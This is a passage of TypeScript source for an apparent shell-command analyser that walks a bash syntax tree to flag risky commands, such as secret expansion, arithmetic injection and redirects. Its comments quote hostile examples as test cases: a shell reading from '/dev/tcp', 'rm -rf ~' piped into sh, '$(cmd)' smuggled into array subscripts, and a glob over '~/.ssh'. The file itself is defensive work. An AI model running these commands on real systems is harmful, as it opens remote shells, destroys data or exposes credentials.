/**
 * Flatten the AST into every simple command that could run, each with its context. The walker
 * keeps the shell state it can be sure of (working directory, variables assigned earlier on the
 * line, functions and aliases defined) and forgets it where control flow makes it uncertain.
 *
 * What a simple command runs (wrappers, `sh -c`, `eval`, functions…) is run-argv.ts's job; the
 * modules it calls walk the code they find through the `Walker` interface (walker-api.ts), so none
 * of them imports this class.
 */
import type {
  ArithFor,
  CmdSubst,
  Command,
  For,
  FunctionDef,
  List,
  Pipeline,
  ProcSubst,
  Redirect,
  Script,
  SimpleCommand,
  Span,
  TestCommand,
  While,
  Word,
  WordPart,
} from '../syntax/ast.js';
import { expandWord, globMatchValue, staticValue, type ExpandedWord, type ExpandScope } from '../expand/word.js';
import type { CoreFindingId } from '../findings/catalog.js';
import type { Arg, CommandContext, RedirectTarget, WalkedCommand } from './types.js';
import type { PrintedNames } from '../programs/hook-types.js';
import { namesThroughStages } from '../programs/printed-names.js';
import type { EmittedCommand, RawFinding, WalkBudget, WalkOptions, Walker } from './walker-api.js';
import { sourceText, type SourceFrame } from './source-frame.js';
import { runArgv } from './run-argv.js';
import { filteredText, printedByArgs, processOutput, substitutionNames } from './printed-text.js';
import { arithmeticAssignedNames, arithmeticOperands, arithmeticRisk, isInfinite, mayExpandSecret } from './expansion-risks.js';
import { defineFunction, exportedVariables, forkScope, globOptionsNow, mergeUncertain, withCertainty, type Scope } from './scope.js';
import { codeInAssignments } from './code-variables.js';
import { assignmentFindings, DIRECTORY_BUILTINS, namerefTarget } from './shell-state.js';
import { loopPasses as loopPassesOf, nestedPasses } from './loop-passes.js';
import { LineLinkEvents } from './link-events.js';
import { trackFoundProgram } from './found-programs.js';

/** The analyser reads the walk's findings (and builds the walker) from here. */
export type { RawFinding, WalkBudget, WalkOptions } from './walker-api.js';

/** Walks one command line; the fields shared with the modules it calls are described in walker-api.ts. */
export class LineWalker implements Walker {
  readonly commands: WalkedCommand[] = [];
  readonly findings: RawFinding[] = [];
  readonly callStack: string[] = [];
  functionWalks = 0;
  /** The walk's budget (see `spend`): its own, or one shared with other walks. */
  private readonly budget: WalkBudget;
  /** This walk has reported its budget spent (once per walk: a shared budget may be spent before it starts). */
  private refused = false;
  readonly writtenFiles = new Map<string, string | null>();
  readonly lineLinks = new LineLinkEvents();
  readonly hashed = new Map<string, string>();
  readonly owners: number[] = [];
  private pipelineIds = 0;
  /** Commands by pipeline stage (`id:index`), so a stage finds the one before it in constant time. */
  private readonly stages = new Map<string, WalkedCommand[]>();
  /** Has a command that may change the disk been walked yet (cdMayFail trusts the disk only before one)? */
  private diskTouched = false;
  /** Redirects of the compound commands being walked, inherited by every command inside. */
  private readonly inheritedRedirects: RedirectTarget[] = [];
  /** The names a simple command's assignments have set so far: bash assigns them left to right (`x=1 y=$x`). */
  private readonly assigningNow = new Set<string>();

  constructor(readonly options: WalkOptions) {
    this.budget = options.budget ?? { limit: options.maxWalkSteps, spent: 0 };
  }

  walkScript(script: Script, frame: SourceFrame, ctx: CommandContext, scope: Scope): void {
    this.list(script.body, frame, ctx, scope);
  }

  finding(rule: CoreFindingId, detail: string, span: Span, command?: number): void {
    this.findings.push({ rule, detail, span, command });
  }

  spend(cost: number, span: Span, command?: number): boolean {
    const b = this.budget;
    if (b.spent <= b.limit) {
      b.spent += cost;
      if (b.spent <= b.limit) return true;
    }
    // Once per walk: every later refusal is the same spent budget. A walk that starts on a shared
    // budget already spent reports it at its first command, so no walk passes unwalked code silently.
    if (!this.refused) {
      this.refused = true;
      const name = this.options.budget ? (b.name ?? 'the budget shared with the analyses before this one') : "the walk's budget";
      this.finding('expansion-limit', `${name} of ${b.limit} steps: commands, sourced files, function calls, eval and sh -c together`, span, command);
    }
    return false;
  }

  expandScope(scope: Scope): ExpandScope {
    if (scope.remote) return { home: null, env: {}, vars: scope.vars, cwd: null, oldpwd: null };
    return { home: this.options.home, env: this.options.env, vars: scope.vars, cwd: scope.cwd, oldpwd: scope.oldpwd, varsUnknown: scope.varsUnknown };
  }

  private list(list: List, frame: SourceFrame, ctx: CommandContext, scope: Scope): void {
    const { items, operators } = list;
    const failedCds: Scope[] = [];
    for (let i = 0; i < items.length;) {
      // One and-or list: items[i..j] joined by `&&` / `||`; `&` after it backgrounds all of it.
      let j = i;
      while (j < items.length - 1 && (operators[j] === '&&' || operators[j] === '||')) j++;
      const background = operators[j] === '&';
      for (let k = i; k <= j; k++) {
        const op = operators[k];
        if (op && op !== '\n' && k < items.length - 1) this.finding('chaining', `\`${op}\``, frame.map(items[k + 1].span));
        if (background) this.finding('background', `\`${sourceText(frame, items[k].span)}\``, frame.map(items[k].span));
      }
      // A background job runs in a subshell: its cd and assignments do not flow on.
      const groupScope = background ? forkScope(scope) : scope;
      // `&` inside a loop starts one job per pass; the count is taken where the `&` is.
      const backgroundJobs = background && ctx.loop ? ctx.loopPasses : ctx.backgroundJobs;
      const itemCtx: CommandContext = { ...ctx, background: ctx.background || background, backgroundJobs };
      const before = { cwd: groupScope.cwd, oldpwd: groupScope.oldpwd, dirStack: groupScope.dirStack.slice() };
      this.command(items[i], frame, itemCtx, groupScope, !background);
      if (!background && j === i && j < items.length - 1 && changesDirectory(items[i]) && this.cdMayFail(before.cwd, groupScope.cwd)) {
        // `cd DIR; next`: the cd fails where DIR is missing, a file or not enterable (the
        // workspace's files are the attacker's), and next then runs where the shell was. The
        // rest of the list is walked there too; the walk goes on in DIR, and what follows the
        // list may be in either.
        const failed = forkScope(groupScope);
        Object.assign(failed, before);
        this.list({ ...list, items: items.slice(j + 1), operators: operators.slice(j + 1) }, frame, ctx, failed);
        failedCds.push(failed);
      }
      if (j > i) {
        // Later items run only if earlier ones succeeded (`&&`) or failed (`||`): inside the chain
        // an `&&` chain keeps state certain; after the chain, whatever it changed is uncertain.
        const chain = forkScope(groupScope);
        let certain = !background;
        for (let k = i + 1; k <= j; k++) {
          certain = certain && operators[k - 1] === '&&';
          this.command(items[k], frame, { ...itemCtx, conditional: true }, chain, certain);
        }
        mergeUncertain(groupScope, chain);
      }
      i = j + 1;
    }
    for (const failed of failedCds) mergeUncertain(scope, failed);
  }

  /**
   * May a `cd` from `from` to `to` have failed? Not when it did not move, nor where `to` is not
   * known (relative paths are unknown there already); else unless `to` can be entered as the disk
   * is now and nothing the line ran before could have changed that (only programs that leave
   * the disk alone, without a redirect to a file, ran so far).
   */
  private cdMayFail(from: string | null, to: string | null): boolean {
    if (to === null || to === from) return false;
    return this.diskTouched || this.options.enterable?.(to) !== true;
  }

  /** `certain`: the command surely runs in this shell, so its state changes are known. */
  command(cmd: Command, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
    // Past the budget nothing more is walked: the verdict asks (expansion-limit), whatever is left.
    // Code walked again (a nested script, a function body, a loop pass) also pays for its words:
    // each word becomes operations for every layer after the walk, so a leaf of many words run
    // thousands of times would otherwise cost seconds within the budget. The top-level text's own
    // words are walked once, which its length already bounds.
    const again = frame.scriptDepth > 0 || ctx.functionName !== null || ctx.loop;
    const words = again && cmd.type === 'SimpleCommand' ? cmd.words.length + cmd.redirects.length : 0;
    if (!this.spend(1 + Math.floor(words / WORDS_PER_STEP), frame.map(cmd.span))) return;
    if (cmd.type === 'SimpleCommand' || cmd.redirects.length === 0) return this.commandBody(cmd, frame, ctx, scope, certain);
    // Redirects on a compound command are set up before its body runs, and the commands inside
    // read and write through them: `{ sh -i; } < /dev/tcp/h/1` is a shell reading a socket. They
    // are the compound's own operations (a command of their own) and inherited by each inside.
    const targets = this.redirectTargets(cmd.redirects, frame, ctx, scope);
    const depth = this.inheritedRedirects.length;
    for (const t of targets) this.inheritedRedirects.push({ ...t, inherited: true });
    try {
      this.commandBody(cmd, frame, ctx, scope, certain);
    } finally {
      this.inheritedRedirects.length = depth;
    }
    this.emit({ program: null, programRaw: '', args: [], assignments: [], redirects: targets, span: frame.map(cmd.span), text: '' }, ctx, scope);
  }

  private commandBody(cmd: Command, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
    const inner = { ...ctx, depth: ctx.depth + 1 };
    switch (cmd.type) {
      case 'SimpleCommand':
        this.simple(cmd, frame, ctx, scope, certain);
        return;
      case 'List':
        this.list(cmd, frame, ctx, scope);
        break;
      case 'Pipeline':
        this.pipeline(cmd, frame, ctx, scope, certain);
        break;
      case 'Subshell':
        this.list(cmd.body, frame, inner, forkScope(scope));
        break;
      case 'Group':
        this.list(cmd.body, frame, inner, scope);
        break;
      case 'FunctionDef':
        this.functionDefinition(cmd, frame, inner, scope, certain);
        break;
      case 'If': {
        const branch = { ...inner, conditional: true };
        for (const clause of cmd.clauses) {
          this.uncertain(scope, (s) => this.list(clause.condition, frame, branch, s));
          this.uncertain(scope, (s) => this.list(clause.body, frame, branch, s));
        }
        if (cmd.elseBody) this.uncertain(scope, (s) => this.list(cmd.elseBody!, frame, branch, s));
        break;
      }
      case 'For':
      case 'ArithFor':
      case 'While':
        this.loop(cmd, frame, ctx, scope);
        break;
      case 'Case':
        this.wordSubstitutions(cmd.word.parts, frame, ctx, scope);
        for (const item of cmd.items) {
          for (const p of item.patterns) this.wordSubstitutions(p.parts, frame, ctx, scope);
          this.uncertain(scope, (s) => this.list(item.body, frame, { ...inner, conditional: true }, s));
        }
        break;
      case 'TestCommand':
        this.testCommand(cmd, frame, ctx, scope);
        break;
      case 'ArithCommand':
        this.arithmetic(cmd.raw.replace(/^\(\(/, '').replace(/\)\)$/, ''), cmd.inner, cmd.span, frame, ctx, scope);
        break;
      case 'Unparsed':
        if (cmd.reason === 'too-deep') this.finding('depth-limit', 'syntax nesting', frame.map(cmd.span));
        else if (cmd.reason === 'unsupported') this.finding('unsupported-syntax', cmd.raw.slice(0, 40), frame.map(cmd.span));
        this.wordSubstitutions(cmd.inner, frame, ctx, scope);
        break;
    }
  }

  private pipeline(cmd: Pipeline, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
    const id = ++this.pipelineIds;
    const several = cmd.commands.length > 1;
    if (several) this.finding('chaining', '`|`', frame.map(cmd.span));
    cmd.commands.forEach((c, index) => {
      const stage: CommandContext = {
        ...ctx,
        depth: ctx.depth + 1,
        negated: ctx.negated || cmd.negated,
        pipeline: several ? { id, index, length: cmd.commands.length } : ctx.pipeline,
      };
      // Stages of a multi-command pipeline run in subshells.
      this.command(c, frame, stage, several ? forkScope(scope) : scope, certain && !several);
    });
  }

  /**
   * Defined from here on in this shell (surely, or maybe when the definition may not run). The
   * body is walked here too: it may run where shellgate cannot see the call (a trap, a child shell
   * after `export -f`, command_not_found_handle).
   */
  private functionDefinition(cmd: FunctionDef, frame: SourceFrame, inner: CommandContext, scope: Scope, certain: boolean): void {
    defineFunction(scope, cmd.name, { body: cmd.body, frame, certain });
    this.callStack.push(cmd.name);
    // walked as a body (its locals are the function's), on a copy that is dropped
    const body = forkScope(scope);
    body.locals = new Set();
    this.command(cmd.body, frame, { ...inner, functionName: cmd.name, conditional: true }, body, false);
    this.callStack.pop();
  }

  /** `for`, `for ((…))`, `while`/`until`: the body may run any number of times, even none. */
  private loop(cmd: For | ArithFor | While, frame: SourceFrame, ctx: CommandContext, scope: Scope): void {
    if (cmd.type === 'ArithFor') {
      const header = /\(\(([\s\S]*?)\)\)/.exec(sourceText(frame, cmd.span))?.[1] ?? '';
      this.arithmetic(header, cmd.inner, cmd.span, frame, ctx, scope);
    }
    const loopPasses = nestedPasses(ctx, loopPassesOf(cmd, frame));
    const loop = { ...ctx, depth: ctx.depth + 1, loop: true, conditional: true, infiniteLoop: ctx.infiniteLoop || isInfinite(cmd, frame), loopPasses };
    if (cmd.type === 'For') {
      for (const w of cmd.items ?? []) this.wordSubstitutions(w.parts, frame, ctx, scope);
      // the shell lists the directories the loop's globs walk (ops/glob-listings.ts)
      const globs = cmd.items ? this.expandArgs(cmd.items, frame, scope).filter((a) => a.glob) : [];
      if (globs.length > 0)
        this.emit({ program: null, programRaw: '', args: globs, assignments: [], redirects: [], span: frame.map(cmd.span), text: '' }, ctx, scope);
      this.assigned(scope, cmd.variable, null, '(each word)', frame.map(cmd.span));
      scope.vars.set(cmd.variable, null);
      const values = cmd.items ? loopValues(cmd.items, this.expandScope(scope)) : null;
      if (values !== null) {
        // Known words: the body once with each value, so `"$f"` is a path it can judge.
        for (const v of values) this.uncertain(scope, (s) => (s.vars.set(cmd.variable, v), this.list(cmd.body, frame, loop, s)));
        return;
      }
    } else if (cmd.type === 'While') {
      this.uncertain(scope, (s) => this.list(cmd.condition, frame, loop, s));
      const values = this.readLoopValues(cmd, ctx, scope);
      if (values !== null) {
        for (const v of values) this.uncertain(scope, (s) => (s.vars.set(values.name, v), this.list(cmd.body, frame, loop, s)));
        return;
      }
    }
    this.uncertain(scope, (s) => this.list(cmd.body, frame, loop, s));
  }

  /**
   * `git ls-files | while read -r f; do …; done` (or `done < <(git ls-files)`): each `$f` is one
   * name the producer prints — whole when the lines are names (git escapes newlines; `read -d ''`
   * with NUL-separated names), else only if no name on disk holds a newline (Arg.splitAt).
   */
  private readLoopValues(cmd: While, ctx: CommandContext, scope: Scope): (string[] & { name: string }) | null {
    if (cmd.until) return null;
    const es = this.expandScope(scope);
    const read = readVariable(cmd.condition, es);
    if (read === null) return null;
    const input = cmd.redirects.filter((r) => /^\d*<|<<|<>/.test((r.fd ?? '') + r.op));
    let names: PrintedNames | null = null;
    if (input.length === 1 && input[0].op === '<' && input[0].target.parts.length === 1) {
      const only = input[0].target.parts[0];
      names = only.type === 'ProcSubst' && only.direction === '<' ? substitutionNames(only.body, es) : null;
    } else if (input.length === 0) names = this.pipedNames(ctx);
    if (names === null) return null;
    // A NUL-delimited read of newline-separated names (or the reverse) takes it all as one value, which starts under the root.
    const whole = read.nul !== (names.separator === 'nul') || names.separator === 'nul' || names.newlineSafe;
    const values = names.patterns.map((pattern) =>
      globMatchValue({ pattern, dashFirst: names.dashFirst, produced: true, ...(whole ? {} : { splitAt: 'newline' as const }) }),
    );
    return Object.assign(values, { name: read.name });
  }

  /** `[ … ]` and `[[ … ]]`: a command of their own, whose `-eq`-style operands are arithmetic. */
  private testCommand(cmd: TestCommand, frame: SourceFrame, ctx: CommandContext, scope: Scope): void {
    for (const w of cmd.words) this.wordSubstitutions(w.parts, frame, ctx, scope);
    const close: Arg = { value: cmd.bracket === '[' ? ']' : ']]', dynamic: false, glob: false, span: frame.map(cmd.span) };
    const args = [...this.expandArgs(cmd.words, frame, scope, cmd.bracket === '['), close];
    this.subscriptValues([{ value: cmd.bracket, dynamic: false, glob: false, span: close.span }, ...args], [], frame, cmd.span);
    this.emit(
      { program: cmd.bracket, programRaw: cmd.bracket, args, assignments: [], redirects: [], span: frame.map(cmd.span), text: sourceText(frame, cmd.span) },
      ctx,
      scope,
    );
    // `-eq`, `-lt`… evaluate both sides as arithmetic.
    if (cmd.words.some((w) => /^-(eq|ne|lt|le|gt|ge)$/.test(w.raw))) {
      const parts = cmd.words.flatMap((w) => w.parts);
      if (arithmeticRisk('', parts, scope)) this.finding('arithmetic-injection', `\`${sourceText(frame, cmd.span).slice(0, 60)}\``, frame.map(cmd.span));
    }
  }

  /** Run `f` on a copy of the scope; what it changed becomes unknown afterwards. */
  private uncertain(scope: Scope, f: (s: Scope) => void): void {
    withCertainty(scope, false, f);
  }

  /** Walk every command that runs while a word is expanded (substitutions), before the command. */
  wordSubstitutions(parts: WordPart[], frame: SourceFrame, ctx: CommandContext, scope: Scope): void {
    for (const p of parts) {
      switch (p.type) {
        case 'CmdSubst':
        case 'ProcSubst': {
          const kind = substitutionKind(p);
          this.finding('substitution', `\`${sourceText(frame, p.span).slice(0, 60)}\``, frame.map(p.span));
          const sub: CommandContext = { ...ctx, substitution: kind, depth: ctx.depth + 1, pipeline: null };
          this.list(p.body.body, frame, sub, forkScope(scope));
          break;
        }
        case 'DoubleQuoted':
          this.wordSubstitutions(p.parts, frame, ctx, scope);
          break;
        case 'ParamExp':
          if (/@P\}$/.test(p.raw)) this.finding('prompt-expansion', `\`${p.raw}\``, frame.map(p.span));
          if (mayExpandSecret(p.name, p.raw, scope) && !this.assigningNow.has(p.name)) this.finding('secret-variable', `\`$${p.name}\``, frame.map(p.span));
          // `${!x}` expands the variable whose name is x's value: any variable, a secret included.
          // (`${!prefix*}`, `${!prefix@}`, `${!a[@]}` list names or keys, no value.)
          if (/^\$\{!/.test(p.raw) && !/^\$\{![A-Za-z_][A-Za-z0-9_]*(?:[*@]|\[[*@]\])\}$/.test(p.raw))
            this.finding('secret-variable', `\`${p.raw.slice(0, 60)}\` (the variable ${p.name || 'it'} names, only known at run time)`, frame.map(p.span));
          this.wordSubstitutions(p.inner, frame, ctx, scope);
          this.defaultAssignment(p.raw, frame.map(p.span), scope);
          // An indexed array's subscript and a substring's offset and length are arithmetic.
          for (const expr of arithmeticOperands(p.raw)) {
            if (arithmeticRisk(expr, [], scope)) this.finding('arithmetic-injection', `\`${p.raw.slice(0, 60)}\``, frame.map(p.span));
          }
          break;
        case 'ArithExp':
          this.arithmetic(p.raw.replace(/^\$\(\(|^\$\[/, '').replace(/\)\)$|\]$/, ''), p.inner, p.span, frame, ctx, scope);
          break;
        default:
          break;
      }
    }
  }

  /** Walk an arithmetic context's substitutions and flag unknown values evaluated in it. */
  private arithmetic(raw: string, inner: WordPart[], span: Span, frame: SourceFrame, ctx: CommandContext, scope: Scope, shown = raw): void {
    this.wordSubstitutions(inner, frame, ctx, scope);
    if (arithmeticRisk(raw, inner, scope)) this.finding('arithmetic-injection', `\`${shown.slice(0, 60)}\``, frame.map(span));
    // `((IFS=0))`, `$((x=5))`: the expression assigns; the value is not followed.
    for (const name of arithmeticAssignedNames(raw)) {
      this.assigned(scope, name, '0', shown, frame.map(span));
      scope.vars.set(name, null);
    }
  }

  /** `${X:=v}` / `${X=v}` assigns X when it is unset (or empty, with `:`); its new value is not followed. */
  private defaultAssignment(raw: string, span: Span, scope: Scope): void {
    const m = /^\$\{([A-Za-z_][A-Za-z0-9_]*)(:?)=/.exec(raw);
    if (!m) return;
    // Only a value set on the line is known to be set: the environment's is not followed here.
    const now = scope.varsUnknown ? undefined : (scope.vars.get(m[1]) ?? undefined);
    if (now !== undefined && (m[2] === '' || now !== '')) return;
    this.assigned(scope, m[1], null, raw, span);
    scope.vars.set(m[1], null);
  }

  /** Report what assigning `name` changes that is not followed (a shell variable bash reads, an integer variable). */
  private assigned(scope: Scope, name: string, value: string | null, raw: string, span: Span, command?: number): void {
    for (const f of assignmentFindings(scope, name, value, raw)) this.finding(f.rule, f.detail, span, command);
  }

  /**
   * Text that bash may evaluate as an arithmetic array subscript, running the `$(…)` inside:
   * `let 'a[$(cmd)]=1'`, `test -v 'a[$(cmd)]'`, `printf -v 'a[$(cmd)]'`, or a value such as
   * `v='a[$(cmd)]'` that a later arithmetic context evaluates. Quoting does not make it data.
   */
  private subscriptValues(args: Arg[], assignments: { name: string; value: string | null }[], frame: SourceFrame, span: Span): void {
    const risky = (v: string) => SUBSCRIPT_SUBSTITUTION.test(v);
    for (const a of assignments)
      if (a.value !== null && risky(a.value)) this.finding('arithmetic-injection', `\`${a.name}=${a.value.slice(0, 40)}\``, frame.map(span));
    const program = args[0]?.value;
    if (program !== undefined && NAME_TAKING_BUILTINS.has(program)) {
      for (const a of args.slice(1)) if (!a.dynamic && risky(a.value)) this.finding('arithmetic-injection', `\`${a.value.slice(0, 40)}\``, a.span);
    }
  }

  /**
   * What a command reads on stdin when known: its own heredoc or here-string; else, unless its own
   * redirect or a pipe feeds it, one of an enclosing compound command; else the stage before it.
   */
  private stdinText(own: RedirectTarget[], ctx: CommandContext): string | null {
    const mine = own.find((r) => r.input !== null);
    if (mine) return mine.input;
    const piped = ctx.pipeline !== null && ctx.pipeline.index > 0;
    if (!piped && !own.some(feedsStdin)) {
      for (let i = this.inheritedRedirects.length - 1; i >= 0; i--) {
        const r = this.inheritedRedirects[i];
        if (feedsStdin(r)) return r.input;
      }
    }
    return this.pipedText(ctx);
  }

  /** Static output of the previous pipeline stage when it is `echo`/`printf` with static words. */
  private pipedText(ctx: CommandContext): string | null {
    const p = ctx.pipeline;
    if (!p || p.index === 0) return null;
    // The stage before, looking through wrappers (`sudo echo x | sh`): exactly one innermost command.
    const stage = this.stages.get(`${p.id}:${p.index - 1}`) ?? [];
    const innermost = stage.filter((c) => !stage.some((o) => o.parent === c.id));
    const prev = innermost.length === 1 ? innermost[0] : undefined;
    if (!prev || prev.redirects.some((r) => r.path !== null && !r.dup && !r.inherited)) return null;
    // A filter passes on what reached it (`echo 'rm -rf ~' | cat | sh`) when its output is known exactly.
    const filtered = prev.stdinText === null ? null : filteredText(prev.program, prev.args, prev.stdinText);
    return filtered ?? printedByArgs(prev.program, prev.args);
  }

  /**
   * The file names the stages before print into this one: a producer (`find`, `git ls-files`…,
   * programs/hooks) reached back through filters that only select or reorder whole lines, each
   * separating them the same way (`find -print0 | sort -z`).
   */
  private pipedNames(ctx: CommandContext): PrintedNames | null {
    const p = ctx.pipeline;
    if (!p) return null;
    return namesThroughStages(p.index, (index) => {
      // Through wrappers (`sudo find …`): exactly one innermost command, its output not sent elsewhere.
      const stage = this.stages.get(`${p.id}:${index}`) ?? [];
      const innermost = stage.filter((c) => !stage.some((o) => o.parent === c.id));
      const prev = innermost.length === 1 ? innermost[0] : undefined;
      if (!prev || prev.program === null || prev.redirects.some((r) => r.path !== null && !r.dup && !r.inherited)) return null;
      return { program: prev.program, args: prev.args };
    });
  }

  /** What `cmd` reads on stdin when it is names a stage before prints (for xargs); null when its own redirect feeds it. */
  namesPipedTo(cmd: WalkedCommand): PrintedNames | null {
    return cmd.redirects.some((r) => r.input !== null || feedsStdin(r)) ? null : this.pipedNames(cmd.context);
  }

  /** `names`: an unquoted `$(producer)` stands for the names it prints (not inside `[[ ]]`, which does not split). */
  expandArgs(words: Word[], frame: SourceFrame, scope: Scope, names = true): Arg[] {
    const out: Arg[] = [];
    const es = this.expandScope(scope);
    for (const w of words) {
      const e = expandWord(w, es, 'argument');
      const span = frame.map(w.span);
      if (e.truncated) this.finding('expansion-limit', `\`${w.raw.slice(0, 40)}\` expands to more words than followed`, span);
      const only = w.parts.length === 1 ? w.parts[0] : null;
      // `$(git ls-files '*.ts')` unquoted: the names split and globbed, each whole only if no name holds a blank or a glob character.
      const printed = names && only?.type === 'CmdSubst' ? substitutionNames(only.body, es) : null;
      if (printed !== null) {
        for (const value of printed.patterns)
          out.push({
            value,
            dynamic: false,
            glob: true,
            produced: true,
            span,
            raw: w.raw,
            splitAt: 'blank-glob',
            ...(printed.dashFirst ? { dashFirst: true } : {}),
          });
        continue;
      }
      const fileText = only?.type === 'ProcSubst' && only.direction === '<' ? processOutput(only.body, es) : null;
      for (const f of e.fields)
        out.push(
          fileText === null
            ? { value: f, dynamic: e.dynamic, glob: e.glob, span, raw: w.raw, ...matchFlags(e) }
            : { value: f, dynamic: e.dynamic, glob: e.glob, span, raw: w.raw, fileText },
        );
    }
    return out;
  }

  redirectTargets(redirects: Redirect[], frame: SourceFrame, ctx: CommandContext, scope: Scope): RedirectTarget[] {
    const es = this.expandScope(scope);
    return redirects.map((r) => {
      this.wordSubstitutions(r.target.parts, frame, ctx, scope);
      const span = frame.map(r.span);
      if (r.heredoc) {
        if (!r.heredoc.quoted) {
          this.wordSubstitutions(r.heredoc.body.parts, frame, ctx, scope);
        }
        // A quoted delimiter (`<<'EOF'`) keeps the body literal: backslashes included.
        if (r.heredoc.quoted) return { op: r.op, fd: r.fd, path: null, dup: false, input: r.heredoc.body.raw, span };
        const e = expandWord(r.heredoc.body, es);
        return { op: r.op, fd: r.fd, path: null, dup: false, input: e.dynamic ? null : e.fields.join(' '), span };
      }
      if (r.op === '<<<') {
        const v = staticValue(r.target, es);
        return { op: r.op, fd: r.fd, path: null, dup: false, input: v === null ? null : v + '\n', span };
      }
      const e = expandWord(r.target, es);
      const value = e.fields.join(' ');
      const dup = (r.op === '>&' || r.op === '<&') && /^(\d+-?|-)$/.test(value);
      const path: Arg | null = dup ? null : { value, dynamic: e.dynamic || e.fields.length !== 1, glob: e.glob, span: frame.map(r.target.span) };
      if (!dup) this.finding('redirect', `${r.fd ?? ''}${r.op} ${r.target.raw}`, span);
      // `sh < <(echo 'rm -rf ~')`: stdin is what the process substitution prints.
      const only = r.op === '<' && r.target.parts.length === 1 ? r.target.parts[0] : null;
      const input = only?.type === 'ProcSubst' && only.direction === '<' ? processOutput(only.body, es) : null;
      return { op: r.op, fd: r.fd, path, dup, input, span };
    });
  }

  private simple(cmd: SimpleCommand, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
    const before = this.commands.length;
    this.simpleInner(cmd, frame, ctx, scope, certain, () => {
      // Substitutions in this command's words ran just before it: link them to it.
      const consumer = this.commands.length;
      for (let i = before; i < consumer; i++) {
        const c = this.commands[i];
        if (c.substitutionOf === null && c.context.substitution !== null && c.context.depth > ctx.depth) c.substitutionOf = consumer;
      }
    });
  }

  private simpleInner(cmd: SimpleCommand, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean, linkSubstitutions: () => void): void {
    for (const a of cmd.assignments) {
      if (a.value) this.wordSubstitutions(a.value.parts, frame, ctx, scope);
      for (const w of a.array ?? []) this.wordSubstitutions(w.parts, frame, ctx, scope);
      // An indexed array's subscript is arithmetic: unknown values in it are evaluated.
      if (a.subscript.length > 0) this.arithmetic('', a.subscript, a.span, frame, ctx, scope, sourceText(frame, a.span));
      this.assigningNow.add(a.name); // `x=1 y=$x`: bash assigns left to right
    }
    this.assigningNow.clear();
    for (const w of cmd.words) this.wordSubstitutions(w.parts, frame, ctx, scope);
    const redirects = this.redirectTargets(cmd.redirects, frame, ctx, scope);
    const es = this.expandScope(scope);
    const assignments = cmd.assignments.map((a) => ({
      // `declare -n r=PATH; r=/tmp`: assigning a nameref assigns its target.
      name: scope.namerefs.size > 0 ? namerefTarget(scope, a.name) : a.name,
      value: a.value && !a.append && a.subscript.length === 0 ? staticValue(a.value, es, 'assignment') : null,
    }));
    const span = frame.map(cmd.span);
    const text = sourceText(frame, cmd.span);
    linkSubstitutions();
    if (cmd.words.length === 0) {
      // `X=1` alone sets shell variables for what follows.
      this.subscriptValues([], assignments, frame, cmd.span);
      for (const [i, a] of assignments.entries()) {
        this.assigned(scope, a.name, a.value, cmd.assignments[i].value?.raw ?? '', span);
        // `declare -u x; x=rm`: the stored value is not the one written.
        scope.vars.set(a.name, certain && !scope.transforms?.has(a.name) ? a.value : null);
        if (scope.allexport) scope.exports.add(a.name);
        trackFoundProgram(scope, a.name, cmd.assignments[i], certain);
      }
      // `a=(~/.ssh/*)`: the shell lists the directories an array's globs walk (ops/glob-listings.ts)
      const globs = this.expandArgs(
        cmd.assignments.flatMap((a) => a.array ?? []),
        frame,
        scope,
      ).filter((a) => a.glob);
      const walked = this.emit({ program: null, programRaw: '', args: globs, assignments, redirects, span, text }, ctx, scope);
      codeInAssignments(this, walked, assignments, frame, ctx, scope);
      return;
    }
    for (const w of cmd.words) {
      const first = w.parts[0];
      if (first?.type === 'Literal' && /^=[A-Za-z_]/.test(first.raw)) this.finding('zsh-expansion', `\`${w.raw}\``, frame.map(w.span));
    }
    const args = this.expandArgs(cmd.words, frame, scope);
    this.subscriptValues(args, assignments, frame, cmd.span);
    const restText = frame.source.slice(cmd.words[0].span.end, cmd.span.end);
    const argv = { args, assignments, redirects, span, text, programRaw: cmd.words[0].raw, restText };
    if (scope.globOptions.has('nullglob') && args.slice(1).some((a) => a.glob)) {
      // Under nullglob a pattern that matches nothing disappears: `find *.none -delete` is then
      // `find -delete`, which deletes the working directory. That reading is walked too.
      const kept = [args[0], ...args.slice(1).filter((a) => !a.glob)];
      runArgv(this, { ...argv, args: kept }, frame, { ...ctx, via: [...ctx.via, 'nullglob'] }, forkScope(scope), false, null, true);
    }
    runArgv(this, argv, frame, ctx, scope, certain, null, true);
    // Before a special builtin an assignment stays set in posix mode and in dash (`IFS=0 :`).
    if (assignments.length > 0 && !args[0].dynamic && SPECIAL_BUILTINS.has(args[0].value)) {
      for (const [i, a] of assignments.entries()) {
        this.assigned(scope, a.name, a.value, cmd.assignments[i].value?.raw ?? '', span);
        scope.vars.set(a.name, null);
      }
    }
  }

  emit(c: EmittedCommand, ctx: CommandContext, scope: Scope): WalkedCommand {
    const inherited = this.inheritedRedirects;
    const redirects = inherited.length === 0 ? c.redirects : [...c.redirects, ...inherited];
    const walked: WalkedCommand = {
      id: this.commands.length,
      program: c.program,
      programRaw: c.programRaw,
      programPath: c.programPath ?? null,
      args: c.args,
      assignments: c.assignments,
      redirects,
      context: ctx,
      cwd: scope.cwd,
      parent: c.parent ?? this.owners[this.owners.length - 1] ?? null,
      substitutionOf: null,
      calls: c.calls ?? null,
      execsStdin: c.execsStdin ?? false,
      stdinText: this.stdinText(c.redirects, ctx),
      exported: exportedVariables(scope),
      globOptions: globOptionsNow(scope),
      span: c.span,
      text: c.text,
    };
    this.commands.push(walked);
    this.diskTouched ||= !leavesDiskAlone(walked);
    if (ctx.pipeline) {
      const key = `${ctx.pipeline.id}:${ctx.pipeline.index}`;
      const list = this.stages.get(key);
      if (list) list.push(walked);
      else this.stages.set(key, [walked]);
    }
    return walked;
  }
}

/**
 * `read [-r] [-d ''] NAME` alone as a loop's condition (an `IFS=` prefix aside): the one variable it
 * sets from each line (each NUL-delimited item with `-d ''`); null for anything else.
 */
function readVariable(condition: List, es: ExpandScope): { name: string; nul: boolean } | null {
  const only = condition.items.length === 1 ? condition.items[0] : null;
  if (only?.type !== 'SimpleCommand' || only.redirects.length > 0) return null;
  if (only.assignments.some((a) => a.name !== 'IFS')) return null;
  const words = only.words.map((w) => staticValue(w, es));
  if (words[0] !== 'read' || words.some((w) => w === null)) return null;
